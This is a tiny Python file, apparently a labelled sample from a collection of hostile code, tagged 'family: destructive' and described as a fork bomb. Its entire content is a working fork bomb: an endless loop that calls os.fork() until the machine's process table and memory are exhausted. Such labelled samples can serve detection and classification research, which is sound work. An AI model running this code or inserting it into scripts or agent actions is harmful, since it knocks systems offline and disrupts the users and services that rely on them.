# family: destructive
# a fork bomb
import os

while True:
    os.fork()
